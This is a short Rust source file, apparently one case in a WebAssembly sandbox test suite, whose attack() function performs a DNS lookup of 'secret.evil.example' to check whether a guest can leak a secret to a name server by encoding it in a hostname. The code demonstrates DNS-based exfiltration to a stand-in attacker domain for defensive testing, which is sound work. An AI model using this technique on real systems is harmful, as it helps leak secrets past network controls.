//! Tells a secret to a name server, in a name.

use wasip2::sockets::instance_network::instance_network;
use wasip2::sockets::ip_name_lookup::resolve_addresses;

use crate::{Attempt, got, wasi};

pub fn attack() -> Attempt {
    let answers =
        resolve_addresses(&instance_network(), "secret.evil.example").map_err(wasi::name)?;
    answers.subscribe().block();
    let address = answers.resolve_next_address().map_err(wasi::name)?;
    Ok(got(format!("{address:?}")))
}
